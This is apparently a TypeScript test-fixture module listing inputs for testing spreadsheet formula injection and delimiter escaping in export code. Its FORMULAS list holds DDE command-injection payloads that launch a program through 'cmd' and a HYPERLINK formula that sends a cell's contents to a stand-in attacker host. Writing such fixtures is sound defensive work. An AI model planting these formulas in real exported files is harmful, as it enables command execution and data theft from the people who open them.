import { HOSTILE_HTML } from '#tests/inputs/hostile-html.ts'
import { AWKWARD_TEXTS } from '#tests/inputs/texts.ts'

/** Texts that a spreadsheet may run as a formula or change. */
export const FORMULAS = [
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  "'",
  "it's fine",
  'a;=1+1',
  'a;  @SUM(1)',
  'first\n- second',
  'first\r\n=1+1&"',
  'a\t=1+1',
  'a";=1+1;"b',
  '+1-312-555-0100',
  '-5',
] as const

/** Texts that a format changes unless its own delimiters are escaped. */
export const MARKS = [
  '_x0041_',
  '_x005F_x0041_',
  '_x000D_',
  '\u0001\u000b',
  '\uffff',
  'a"b""c',
  ' edged ',
  '\ufeffbom',
  '00123',
  '1E5',
  'TRUE',
  '2026-11-21',
  '#12',
  '\u202eabc',
]

export const NAUGHTY: readonly string[] = [...AWKWARD_TEXTS, ...HOSTILE_HTML, ...FORMULAS, ...MARKS]
  .map((text) => [...text.toWellFormed().replaceAll('\0', '')].slice(0, 2000).join(''))
  .filter((text) => text !== '')
